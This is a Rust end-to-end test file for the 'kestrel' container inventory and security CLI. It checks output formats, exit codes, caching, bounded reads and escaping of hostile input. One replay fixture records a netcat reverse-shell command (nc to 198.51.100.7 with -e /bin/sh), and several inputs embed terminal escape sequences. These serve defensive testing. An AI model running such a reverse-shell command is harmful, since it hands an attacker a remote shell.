//! The `kestrel` binary end to end: real archives built by the test kit, every output format, exit codes,
//! and error messages that name the file and the reason.

use assert_cmd::Command;
use kestrel_testkit::{go_binary, Compression, Entry, Image};
use predicates::prelude::*;
use serde_json::Value;
use std::time::Duration;

fn kestrel() -> Command {
    let mut c = Command::cargo_bin("kestrel").unwrap();
    c.env("SOURCE_DATE_EPOCH", "1763856000");
    // These tests are about the inventory; the vulnerability scanner has its own (tests/vuln.rs).
    c.env("KESTREL_SCANNERS", "none");
    // A cache of this test process's own, in cargo's scratch directory for tests (not left in /tmp).
    c.env(
        "KESTREL_CACHE_DIR",
        std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("cli-cache-{}", std::process::id())),
    );
    c
}

fn image() -> Image {
    Image::new(vec![
        vec![
            Entry::File("etc/os-release".into(), b"ID=debian\nVERSION_ID=\"12\"\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n".to_vec()),
            Entry::File(
                "var/lib/dpkg/status".into(),
                b"Package: zlib1g\nStatus: install ok installed\nArchitecture: amd64\nSource: zlib\nVersion: 1:1.2.13.dfsg-1\n\n".to_vec(),
            ),
        ],
        vec![
            Entry::File("app/node_modules/ms/package.json".into(), br#"{"name":"ms","version":"2.1.3","license":"MIT"}"#.to_vec()),
            Entry::FileMode("usr/bin/app".into(), go_binary("go1.21.5", "mod\texample.com/app\tv0.1.0\t\n"), 0o755),
        ],
    ])
}

#[test]
fn docker_archive_to_json() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("app.tar");
    image().write_docker_archive(&p, &["app:1"]);
    let out = kestrel()
        .args(["image", "--input"])
        .arg(&p)
        .args(["-f", "json"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v: Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(v["schema"], "kestrel.sbom/v1");
    assert_eq!(v["created"], "2025-11-23T00:00:00Z");
    let names: Vec<&str> = v["packages"].as_array().unwrap().iter().map(|p| p["name"].as_str().unwrap()).collect();
    assert_eq!(names, vec!["zlib1g", "ms", "example.com/app", "stdlib"]);
    assert_eq!(v["packages"][0]["source"]["name"], "zlib");
}

#[test]
fn an_archive_on_standard_input_is_read_as_it_streams_in() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("app.tar");
    image().write_docker_archive(&p, &["app:1"]);
    let from_file = kestrel().args(["image", "--input"]).arg(&p).args(["-f", "json"]).output().unwrap();
    let from_file: Value = serde_json::from_slice(&from_file.stdout).unwrap();
    let gz = dir.path().join("app.tar.gz");
    std::fs::write(&gz, kestrel_testkit::compress(&std::fs::read(&p).unwrap(), Compression::Gzip)).unwrap();
    // `docker save app | kestrel image -`, plain or gzip-compressed; `--tag` picks among several images.
    for (input, tag) in [(&p, None), (&gz, None), (&p, Some("app:1"))] {
        let mut cmd = kestrel();
        cmd.args(["image", "-", "-f", "json", "--no-cache"]);
        if let Some(t) = tag {
            cmd.args(["--tag", t]);
        }
        let out = cmd.pipe_stdin(input).unwrap().assert().success().get_output().stdout.clone();
        let v: Value = serde_json::from_slice(&out).unwrap();
        assert_eq!(v["packages"], from_file["packages"], "{}", input.display());
        assert_eq!(v["target"]["image_id"], from_file["target"]["image_id"]);
        assert_eq!(v["target"]["name"], "stdin");
    }
    // Through a pipe with a name (`kestrel image <(docker save app)`): streamed too (it cannot be sought in).
    let fifo = dir.path().join("saved");
    assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let (from, to) = (p.clone(), fifo.clone());
    let writer = std::thread::spawn(move || std::fs::write(to, std::fs::read(from).unwrap()));
    // Bounded: a reader that opens the pipe twice (to look, then to read) waits for a second writer forever.
    let out =
        kestrel().args(["image", "-f", "json", "--no-cache"]).arg(&fifo).timeout(Duration::from_secs(120)).output();
    let out = out.unwrap();
    {
        use std::os::unix::fs::OpenOptionsExt;
        // A writer still waiting (kestrel never opened the pipe) is let go: the test fails, not hangs.
        let _ = std::fs::OpenOptions::new().read(true).custom_flags(libc::O_NONBLOCK).open(&fifo);
    }
    let _ = writer.join();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["packages"], from_file["packages"]);
    assert_eq!(v["target"]["image_id"], from_file["target"]["image_id"]);
    // What is no image archive gets a clear error, and so does a wrong tag.
    kestrel()
        .args(["image", "-"])
        .write_stdin("hello")
        .assert()
        .code(2)
        .stderr(predicate::str::contains("stdin: ").and(predicate::str::contains("tar archive")));
    kestrel()
        .args(["image", "-", "--tag", "other:2"])
        .pipe_stdin(&p)
        .unwrap()
        .assert()
        .code(2)
        .stderr(predicate::str::contains("stdin: no image matches other:2").and(predicate::str::contains("app:1")));
}

#[test]
fn oci_reference_with_tag_and_every_format() {
    let dir = tempfile::tempdir().unwrap();
    let layout = dir.path().join("layout");
    image().write_oci_dir(&layout, "v1", Compression::Zstd);
    let reference = format!("oci:{}:v1", layout.display());
    for (fmt, needle) in
        [("cyclonedx", "\"bomFormat\": \"CycloneDX\""), ("spdx", "\"spdxVersion\": \"SPDX-2.3\""), ("table", "zlib1g")]
    {
        let outfile = dir.path().join(format!("out.{fmt}"));
        kestrel().args(["image", &reference, "-f", fmt, "-o"]).arg(&outfile).assert().success().stdout("");
        let text = std::fs::read_to_string(&outfile).unwrap();
        assert!(text.contains(needle), "{fmt}: {text}");
    }
    // A relative path after a file scheme is a file, not an image name (`oci` tagged `layout`) to look for.
    kestrel()
        .current_dir(dir.path())
        .env("DOCKER_HOST", "unix:///nonexistent/docker.sock")
        .args(["image", "oci:layout", "-f", "json"])
        .assert()
        .success()
        .stdout(predicate::str::contains("zlib1g"));
    // syft's spelling of the scheme.
    kestrel()
        .args(["image", &format!("oci-dir:{}:v1", layout.display()), "-f", "json"])
        .assert()
        .success()
        .stdout(predicate::str::contains("zlib1g"));
    kestrel()
        .args(["image", &format!("oci:{}:v2", layout.display())])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("no image matches tag v2").and(predicate::str::contains("v1")));
}

#[test]
fn errors_name_the_file_and_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    kestrel()
        .args(["image", "--input", "/no/such/image.tar"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("/no/such/image.tar"));
    let junk = dir.path().join("junk.tar");
    std::fs::write(&junk, b"this is not a tar archive at all, just text").unwrap();
    kestrel()
        .args(["image", "--input"])
        .arg(&junk)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(junk.display().to_string()));
    let rootfs_tar = dir.path().join("rootfs.tar");
    std::fs::write(
        &rootfs_tar,
        kestrel_testkit::layer_tar(&[Entry::File("etc/os-release".into(), b"ID=alpine".to_vec())]),
    )
    .unwrap();
    kestrel()
        .args(["image", "--input"])
        .arg(&rootfs_tar)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("kestrel rootfs"));
    kestrel()
        .args(["rootfs"])
        .arg(&rootfs_tar)
        .args(["-f", "json"])
        .assert()
        .success()
        .stdout(predicate::str::contains("\"id\": \"alpine\""));
    // The same tar on standard input (`docker export CONTAINER | kestrel rootfs -`), and no tar there.
    kestrel()
        .args(["rootfs", "-", "-f", "json", "--scanners", "none"])
        .pipe_stdin(&rootfs_tar)
        .unwrap()
        .assert()
        .success()
        .stdout(predicate::str::contains("\"id\": \"alpine\""));
    kestrel()
        .args(["rootfs", "-", "--scanners", "none"])
        .write_stdin("hello")
        .assert()
        .code(2)
        .stderr(predicate::str::contains("stdin: it ends within its first 512 bytes"));
    // `docker:` names the Docker engine's store (as syft's scheme does); no engine listens here.
    kestrel()
        .args(["image", "docker:nginx"])
        .env("DOCKER_HOST", "unix:///nonexistent/docker.sock")
        .assert()
        .code(2)
        .stderr(predicate::str::contains("docker at /nonexistent/docker.sock: no engine answers"));
    kestrel()
        .args(["image", "containerd:nginx"])
        .env("CONTAINERD_ADDRESS", "/nonexistent/containerd.sock")
        .assert()
        .code(2)
        .stderr(predicate::str::contains("containerd at /nonexistent/containerd.sock: no answer"));
    // CRI-O's images are in containers-storage, read directly: a store that is not there is said as such.
    let conf = std::env::temp_dir().join(format!("kestrel-cli-storage-{}.conf", std::process::id()));
    std::fs::write(&conf, "[storage]\ngraphroot = \"/nonexistent/storage\"\n").unwrap();
    kestrel().args(["image", "cri-o:nginx"]).env("CONTAINERS_STORAGE_CONF", &conf).assert().code(2).stderr(
        predicate::str::contains(
            "cri-o:nginx: /nonexistent/storage: no image named nginx in this store; no store is there",
        ),
    );
    let _ = std::fs::remove_file(&conf);
    kestrel().args(["image", "--bogus"]).assert().code(2);
}

#[test]
fn fs_scans_lock_files_and_quiet_is_quiet() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("Cargo.lock"), "version = 3\n[[package]]\nname = \"itoa\"\nversion = \"1.0.9\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n").unwrap();
    std::fs::write(dir.path().join("package-lock.json"), "{broken").unwrap();
    let out = kestrel()
        .args(["fs", "-q", "-f", "json"])
        .arg(dir.path())
        .assert()
        .success()
        .stderr("")
        .get_output()
        .stdout
        .clone();
    let v: Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(v["packages"][0]["purl"], "pkg:cargo/itoa@1.0.9");
    assert_eq!(v["warnings"].as_array().unwrap().len(), 1);
    // Without -q, the warning is summarised on stderr.
    kestrel()
        .args(["fs", "-f", "json"])
        .arg(dir.path())
        .assert()
        .success()
        .stderr(predicate::str::contains("package-lock.json"));
    // One file of the project: that file alone (the broken lock beside it is not read), relative or not.
    for (cwd, arg) in [(None, dir.path().join("Cargo.lock")), (Some(dir.path()), "Cargo.lock".into())] {
        let mut cmd = kestrel();
        if let Some(cwd) = cwd {
            cmd.current_dir(cwd);
        }
        let out = cmd.args(["fs", "-q", "-f", "json", "--scanners", "none"]).arg(&arg).output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let v: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(v["packages"].as_array().map(Vec::len), Some(1), "{v:#}");
        assert_eq!(v["packages"][0]["purl"], "pkg:cargo/itoa@1.0.9");
        assert!(v["warnings"].as_array().is_none_or(Vec::is_empty), "{v:#}");
    }
    // A file no cataloger reads (a lock file renamed, `requirements.in`): no package, and a warning that says why.
    let other = dir.path().join("Cargo.lock.orig");
    std::fs::copy(dir.path().join("Cargo.lock"), &other).unwrap();
    let out = kestrel().args(["fs", "-q", "-f", "json", "--scanners", "none"]).arg(&other).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(v["packages"].as_array().is_none_or(Vec::is_empty), "{v:#}");
    assert_eq!(v["warnings"][0]["path"], other.display().to_string(), "{v:#}");
    assert!(v["warnings"][0]["message"].as_str().unwrap().contains("kestrel catalogers"), "{v:#}");
}

#[test]
fn help_shows_examples_and_exit_codes() {
    kestrel()
        .arg("--help")
        .assert()
        .success()
        .stdout(predicate::str::contains("Exit codes").and(predicate::str::contains("image")));
    kestrel()
        .args(["image", "--help"])
        .assert()
        .success()
        .stdout(predicate::str::contains("oci:DIR[:TAG]").and(predicate::str::contains("Examples")));
}

#[test]
fn image_inventories_are_cached_by_content_address() {
    let dir = tempfile::tempdir().unwrap();
    let layout = dir.path().join("layout");
    image().write_oci_dir(&layout, "v1", Compression::Gzip);
    let cache = dir.path().join("cache");
    let scan = |extra: &[&str]| {
        let mut c = kestrel();
        c.env("KESTREL_CACHE_DIR", &cache)
            .arg("image")
            .arg(format!("oci:{}:v1", layout.display()))
            .args(["-f", "json"]);
        c.args(extra);
        c.assert()
    };
    let cold = scan(&[]).success();
    let cold: Value = serde_json::from_slice(&cold.get_output().stdout).unwrap();
    assert_eq!(std::fs::read_dir(&cache).unwrap().count(), 1, "one cache entry");
    // Damage every layer blob: a warm scan reads only the index, manifest and config, so it still answers
    // (from the inventory of the image these digests name) …
    let manifest = &cold["target"]["layers"];
    for l in manifest.as_array().unwrap() {
        let digest = l["blob_digest"].as_str().unwrap_or(l["diff_id"].as_str().unwrap());
        let blob = layout.join("blobs/sha256").join(digest.trim_start_matches("sha256:"));
        std::fs::write(&blob, b"damaged").unwrap();
    }
    let warm = scan(&[]).success();
    let warm: Value = serde_json::from_slice(&warm.get_output().stdout).unwrap();
    assert_eq!(warm["packages"], cold["packages"]);
    assert_eq!(warm["target"], cold["target"]);
    // … and --no-cache reads and verifies every layer, which now fails.
    let out = scan(&["--no-cache"]).code(2);
    assert!(String::from_utf8_lossy(&out.get_output().stderr).contains("layer"));
}

#[test]
fn a_compressed_archive_read_once_is_found_again_by_the_file_until_it_changes() {
    let dir = tempfile::tempdir().unwrap();
    let tar = dir.path().join("app.tar");
    image().write_docker_archive(&tar, &["app:1"]);
    let gz = dir.path().join("app.tar.gz");
    let plain = std::fs::read(&tar).unwrap();
    std::fs::write(&gz, kestrel_testkit::compress(&plain, Compression::Gzip)).unwrap();
    let cache = dir.path().join("cache");
    let scan = || {
        let out =
            kestrel().env("KESTREL_CACHE_DIR", &cache).arg("image").arg(&gz).args(["-f", "json"]).output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        (serde_json::from_slice::<Value>(&out.stdout).unwrap(), String::from_utf8_lossy(&out.stderr).into_owned())
    };
    let (cold, said) = scan();
    assert!(!said.contains("in the cache"), "{said}");
    assert!(!cold["packages"].as_array().unwrap().is_empty());
    // Again: the file is unchanged, so its inventory is served without decompressing it.
    let (warm, said) = scan();
    assert!(said.contains("app.tar.gz: unchanged since it was read; its inventory is in the cache"), "{said}");
    assert_eq!((&warm["packages"], &warm["target"]), (&cold["packages"], &cold["target"]));
    // Rewritten — here with an archive that is no image, same size — it is read again, and its error said.
    let mut other = kestrel_testkit::compress(&plain, Compression::Gzip);
    other.iter_mut().skip(20).for_each(|b| *b = 0);
    std::fs::write(&gz, &other).unwrap();
    let out = kestrel().env("KESTREL_CACHE_DIR", &cache).arg("image").arg(&gz).args(["-f", "json"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(!String::from_utf8_lossy(&out.stderr).contains("in the cache"));
}

/// A missing input is an error that names it and says why once (the image reader's error names its cause and
/// hands it on as its source; the two were printed one after the other).
#[test]
fn a_missing_input_is_named_with_its_reason_said_once() {
    for args in [&["image", "--input", "/nonexistent/app.tar"][..], &["rootfs", "/nonexistent/root"]] {
        let out = kestrel().args(args).output().unwrap();
        assert_eq!(out.status.code(), Some(2));
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.starts_with(&format!("kestrel: error: {}: ", args[args.len() - 1])), "{err}");
        assert_eq!(err.matches("No such file or directory").count(), 1, "{err}");
    }
    // `kestrel fs` on a pipe or a device says what it reads instead of calling it "not a container image".
    let out = kestrel().args(["fs", "--scanners", "none", "/dev/null"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.starts_with("kestrel: error: /dev/null: neither a directory nor a regular file: "), "{err}");
    assert!(!err.contains("container image"), "{err}");
}

/// Output into a pipe whose reader has gone (`kestrel … | head`) ends the command quietly: no panic, no
/// "Broken pipe" error, exit 0 — whichever way the command writes (line by line, a table, a report).
#[test]
fn a_reader_that_went_away_ends_the_command_quietly() {
    let dir = tempfile::tempdir().unwrap();
    let rec = dir.path().join("r.jsonl");
    let mut lines = vec![r#"{"schema":"kestrel.trace/v1","started_ns":1}"#.to_string()];
    for t in 0..50_000 {
        lines.push(format!(
            r#"{{"schema":"kestrel.event/v1","time_ns":{t},"pid":{t},"tid":1,"comm":"sh","cgroup_id":7,"kind":"exit","status":0}}"#
        ));
    }
    std::fs::write(&rec, lines.join("\n")).unwrap();
    let rec = rec.to_str().unwrap();
    for args in [
        &["config", "--list"][..],
        &["compliance", "--list"],
        &["catalogers"],
        &["rules"],
        &["replay", rec],
        &["replay", "-f", "table", rec],
    ] {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let out = std::process::Command::new(assert_cmd::cargo::cargo_bin("kestrel"))
            .args(args)
            .stdout(writer)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success() && err.is_empty(), "{args:?}: {:?} {err}", out.status);
    }
}

/// What an input calls itself reaches a table without its control characters: a manifest's name, a process's
/// name and arguments with an escape sequence that would wipe the screen or retitle the window are written out
/// escaped — on a terminal or into a file — while JSON keeps the exact string (escaped its own way).
#[test]
fn a_table_writes_no_control_character_an_input_chose() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = dir.path().join("pod.yaml");
    std::fs::write(
        &manifest,
        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: \"web\\e[2J\\e]0;owned\\a\"\nspec:\n  containers:\n  - name: a\n    image: nginx\n",
    )
    .unwrap();
    let table = dir.path().join("out.txt");
    let out = kestrel().args(["config", "-f", "table"]).arg(&manifest).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    kestrel().args(["config", "-f", "table", "-o"]).arg(&table).arg(&manifest).assert().success();
    for text in [String::from_utf8(out.stdout).unwrap(), std::fs::read_to_string(&table).unwrap()] {
        assert!(text.contains("web\\u{1b}[2J\\u{1b}]0;owned\\u{7}"), "{text}");
        assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{text:?}");
    }
    let out = kestrel().args(["config", "-f", "json"]).arg(&manifest).output().unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let named =
        v["findings"].as_array().unwrap().iter().any(|f| f["resource"] == "Pod web\u{1b}[2J\u{1b}]0;owned\u{7}");
    assert!(named, "{v:#}");
    // A process's name and arguments, replayed and alerted on as tables.
    let rec = dir.path().join("r.jsonl");
    let exec = serde_json::json!({"schema": "kestrel.event/v1", "time_ns": 5, "pid": 7, "tid": 7, "comm": "nc",
        "cgroup_id": 1, "container": {"id": "lab-reverse-shell-1", "runtime": "runc"}, "kind": "exec", "ppid": 1, "parent_comm": "nginx",
        "uid": 0, "gid": 0, "euid": 0, "exe": "/bin/nc", "argv": ["/bin/nc", "198.51.100.7", "9001", "-e", "/bin/sh", "\u{1b}[2J\u{9b}1m"],
        "cap_effective": 0});
    std::fs::write(&rec, format!("{{\"schema\":\"kestrel.trace/v1\",\"started_ns\":1}}\n{exec}\n")).unwrap();
    for args in [&["replay", "-f", "table"][..], &["detect", "-q", "--no-profiles", "-f", "table"]] {
        let out = kestrel().args(args).arg(&rec).output().unwrap();
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(text.contains("\\u{1b}[2J\\u{9b}1m"), "{args:?}: {text}");
        assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{args:?}: {text:?}");
        // A runc container's name whole (cut to 12, `lab-reverse-shell-1` and `-2` would read alike).
        assert!(text.contains("lab-reverse-shell-1 "), "{args:?}: {text}");
    }
}

/// An SBOM through a pipe (`kestrel sbom <(syft …)`) is read, and one that never ends is cut at the limit with an
/// error naming it: a pipe says nothing of its size, so the size check alone let it fill memory.
#[test]
fn an_sbom_through_a_pipe_is_read_and_bounded() {
    use std::io::Write as _;
    let dir = tempfile::tempdir().unwrap();
    let fifo = |name: &str| {
        let path = dir.path().join(name);
        assert!(std::process::Command::new("mkfifo").arg(&path).status().unwrap().success());
        path
    };
    let sbom = r#"{"bomFormat":"CycloneDX","specVersion":"1.5","components":[{"type":"library","name":"ms","version":"2.1.3","purl":"pkg:npm/ms@2.1.3"}]}"#;
    let small = fifo("small.json");
    let to = small.clone();
    let writer = std::thread::spawn(move || std::fs::write(to, sbom));
    let mut cmd = kestrel();
    let out =
        cmd.args(["sbom", "--scanners", "none", "-f", "json"]).arg(&small).timeout(Duration::from_secs(120)).output();
    let out = out.unwrap();
    let _ = writer.join();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("pkg:npm/ms@2.1.3"));
    // Endless: a writer that stops only when kestrel stops reading.
    let endless = fifo("endless.json");
    let to = endless.clone();
    let writer = std::thread::spawn(move || {
        let mut f = std::fs::OpenOptions::new().write(true).open(to).unwrap();
        let chunk = vec![b' '; 1 << 20];
        while f.write_all(&chunk).is_ok() {}
    });
    let out = kestrel().args(["sbom", "--scanners", "none"]).arg(&endless).timeout(Duration::from_secs(120)).output();
    let out = out.unwrap();
    let _ = writer.join();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("endless.json: an SBOM larger than 256 MiB"), "{err}");
}

/// What kestrel says on standard error about an input — a file it could not read, a warning from a scan — names
/// the file and quotes the parser, both chosen by whoever made the input: control characters are written out
/// escaped there too, and a parser that quotes a whole line of the input (TOML's errors do) is cut short, in the
/// report as on the terminal.
#[test]
fn what_kestrel_says_on_standard_error_escapes_what_an_input_chose() {
    let dir = tempfile::tempdir().unwrap();
    let project = dir.path().join("app\u{1b}]0;owned\u{7}");
    std::fs::create_dir(&project).unwrap();
    let line = format!("x = {}{}\n", "[".repeat(100_000), "]".repeat(100_000));
    std::fs::write(project.join("Cargo.lock"), format!("version = 3\n{line}")).unwrap();
    std::fs::write(project.join("bad\u{1b}[2J.yaml"), "kind: Pod\nmetadata: [\n").unwrap();
    let bare = |text: &str| !text.chars().any(|c| c.is_control() && c != '\n');
    let out = kestrel().args(["fs", "--scanners", "none", "-f", "json"]).arg(dir.path()).output().unwrap();
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("Cargo.lock: invalid Cargo.lock") && bare(&stderr), "{stderr:?}");
    assert!(stderr.len() < 2_000, "{} bytes: {}", stderr.len(), &stderr[..500]);
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let message = v["warnings"][0]["message"].as_str().unwrap();
    assert!(message.contains("line 2") && message.len() < 2_000, "{} bytes: {}", message.len(), &message[..500]);
    let out = kestrel().args(["config", "-f", "json"]).arg(&project).output().unwrap();
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("bad\\u{1b}[2J.yaml") && bare(&stderr), "{stderr:?}");
}

/// Every file named on the command line is read bounded whatever it says of its size — a device or a pipe says
/// nothing — and one past the limit is refused naming it: a rule file, the configuration, a response or admission
/// policy, a token file, an allow file were read whole, so `/dev/zero` (or an endless `<(…)`) filled memory.
#[test]
fn every_file_named_on_the_command_line_is_read_bounded() {
    for (args, what) in [
        (&["rules", "/dev/zero"][..], "a rule file larger than 16 MiB"),
        (&["--config", "/dev/zero", "rules"], "a configuration file larger than 1 MiB"),
        (&["respond", "approve", "--policy", "/dev/zero", "x"], "a response policy larger than 1 MiB"),
        (&["server", "--tokens", "/dev/zero", "--listen", "127.0.0.1:0"], "a token file larger than 16 MiB"),
        (&["admission", "--policy", "/dev/zero"], "an admission policy larger than 1 MiB"),
        (&["secrets", "--allow", "/dev/zero", "Cargo.toml"], "an allow file larger than 16 MiB"),
        (&["config", "--policy", "/dev/zero", "Cargo.toml"], "a policy larger than 4 MiB"),
    ] {
        let out = kestrel().args(args).timeout(Duration::from_secs(60)).output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        assert!(err.contains(&format!("kestrel: error: /dev/zero: {what}")), "{args:?}: {err}");
    }
}

/// A listing of nothing says where it looked and why it is empty: a mistyped path read as "no decisions yet".
#[test]
fn an_empty_listing_says_why() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("audit.jsonl");
    let out = kestrel().args(["respond", "list", "--audit"]).arg(&missing).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success() && err.contains("audit.jsonl: does not exist"), "{err}");
    std::fs::write(&missing, "").unwrap();
    let out = kestrel().args(["respond", "list", "--audit"]).arg(&missing).output().unwrap();
    assert!(String::from_utf8_lossy(&out.stderr).contains("audit.jsonl: holds no decision yet"));
    let out = kestrel().args(["profile", "list", "--profiles"]).arg(dir.path().join("p")).output().unwrap();
    assert!(String::from_utf8_lossy(&out.stderr).contains("p: does not exist"));
}
